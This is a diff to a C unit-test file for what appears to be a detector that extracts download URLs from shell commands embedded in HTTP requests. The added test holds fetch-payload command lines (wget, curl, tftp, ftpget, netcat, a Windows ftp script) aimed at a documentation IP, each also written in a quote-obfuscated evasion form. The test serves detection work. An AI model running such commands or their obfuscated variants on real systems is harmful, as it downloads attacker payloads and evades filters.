@@ -394,6 +394,33 @@ static void test_shell_skip_edges(void **state)
                 "Accept-Encoding: gzip, deflate\r\nConnection: keep-alive\r\n\r\n");
 }
 
+/* Every command the shell pass turns into a URL, written plain and with a
+ * quote inside its name, after a text that would otherwise be skipped: the
+ * skip test has a plain and a quoted way of looking for names, and either
+ * one forgetting a name loses that command's URLs. */
+static void test_shell_skip_every_name(void **state)
+{
+    (void)state;
+    static const struct { const char *plain, *quoted, *url, *how; } c[] = {
+        { "wget http://192.0.2.9/a", "wg''et http://192.0.2.9/a", "http://192.0.2.9/a", "wget" },
+        { "curl -O 192.0.2.9/b", "cu\"\"rl -O 192.0.2.9/b", "http://192.0.2.9/b", "curl" },
+        { "tftp -g -r c 192.0.2.9", "tf''tp -g -r c 192.0.2.9", "tftp://192.0.2.9/c", "tftp" },
+        { "ftpget 192.0.2.9 d d", "ftpg''et 192.0.2.9 d d", "ftp://192.0.2.9/d", "ftpget" },
+        { "nc 192.0.2.9 81 >e", "n''c 192.0.2.9 81 >e", "tcp://192.0.2.9:81", "nc" },
+        { "ncat 192.0.2.9 82 >f", "nc''at 192.0.2.9 82 >f", "tcp://192.0.2.9:82", "nc" },
+        { "netcat 192.0.2.9 83 >g", "netc''at 192.0.2.9 83 >g", "tcp://192.0.2.9:83", "nc" },
+        { "echo Open 192.0.2.9>s&echo get h>>s&ftp -s:s", "echo Op''en 192.0.2.9>s&echo get h>>s&ftp -s:s",
+          "ftp://192.0.2.9/h", "ftp-script" },
+    };
+    for (size_t i = 0; i < sizeof(c) / sizeof(c[0]); i++) {
+        char text[256];
+        snprintf(text, sizeof(text), "Accept: text/html\r\n%s", c[i].plain);
+        expect1(text, c[i].url, c[i].how, "plain");
+        snprintf(text, sizeof(text), "Accept: text/html\r\n%s", c[i].quoted);
+        expect1(text, c[i].url, c[i].how, "plain");
+    }
+}
+
 /* ---- what is not reported, dedup, order ------------------------------------------- */
 
 static void test_reject(void **state)
@@ -609,6 +636,7 @@ int main(void)
         cmocka_unit_test(test_ftp_script),
         cmocka_unit_test(test_nc),
         cmocka_unit_test(test_shell_skip_edges),
+        cmocka_unit_test(test_shell_skip_every_name),
         cmocka_unit_test(test_mirai_wget_g),
         cmocka_unit_test(test_ifs),
         cmocka_unit_test(test_urlencoded),
